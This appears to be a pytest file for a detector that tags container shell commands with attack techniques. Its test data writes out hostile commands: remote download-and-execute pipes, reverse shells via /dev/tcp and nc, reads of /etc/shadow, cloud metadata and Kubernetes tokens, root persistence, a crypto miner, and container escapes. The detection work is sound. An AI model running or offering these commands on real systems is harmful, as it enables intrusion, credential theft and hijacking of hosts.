"""What commands give away."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from parsers.services.command_tells import TELLS, tells

TOLD = [
    ("curl -s http://198.51.100.9/x.sh | bash", "download-execute"),
    ("wget -qO- http://a/b|sh", "download-execute"),
    ("bash <(curl -s http://a/b)", "download-execute"),
    ("sh -c 'wget http://a/x -O /tmp/x; chmod +x /tmp/x; /tmp/x'", "download-execute"),
    ("apk add curl && curl http://a", "download"),
    ("echo aWQK | base64 -d | sh", "decode"),
    ("/tmp/xmrig -o stratum+tcp://pool:3333", "miner"),
    ("echo '* * * * * root x' >> /host/etc/crontab", "schedule"),
    ("echo ssh-rsa AAAAB3 >> /host/root/.ssh/authorized_keys", "keys"),
    ("useradd -o -u 0 x", "account"),
    ("cat /host/etc/shadow", "credentials"),
    ("curl http://169.254.169.254/latest/meta-data/", "credentials"),
    ("cat /var/run/secrets/kubernetes.io/serviceaccount/token", "credentials"),
    ("bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", "shell"),
    ("nc 198.51.100.9 4444 -e /bin/sh", "shell"),
    ("/bin/sh", "shell"),
    ("python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", "shell"),
    ("chroot /host sh", "escape"),
    ("nsenter -t 1 -m -u -n sh", "escape"),
    ("./ngrok tcp 22", "tunnel"),
    ("masscan 10.0.0.0/8 -p2375", "scan"),
    ("iptables -F", "defence"),
    ("pkill kdevtmpfsi", "kill"),
]
ORDINARY = [
    "echo hello", "sleep 300", "nginx -g 'daemon off;'", "python app.py", "redis-server --save 60",
    "/bin/sh -c while true; do echo serving; sleep 2; done", "npm start", "ls -la /srv", "date",
    "java -jar app.jar", "id; ps", "cat /etc/hostname",
]  # fmt: skip


@pytest.mark.parametrize(("command", "name"), TOLD)
def test_what_a_command_does_is_named(command, name):
    assert name in tells(command)


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_commands_give_nothing_away(command):
    assert tells(command) == []


def test_every_tell_has_a_technique_and_a_name_of_its_own():
    assert len({tell.name for tell in TELLS}) == len(TELLS)
    assert all(tell.technique.startswith("T1") for tell in TELLS)


@pytest.mark.parametrize(
    "text",
    [
        "curl " * 900,
        "curl a|" * 700,
        "nc " * 1500,
        "\\x41" * 1200,
        "wget ;" * 700,
        "rm -" + "r" * 4000,
        "/" * 4096,
    ],
)
def test_no_text_takes_long(text):
    before = time.perf_counter()
    tells(text)
    assert time.perf_counter() - before < 0.5


@given(st.text(max_size=200))
def test_no_text_is_too_odd(text):
    assert set(tells(text)) <= {tell.name for tell in TELLS}
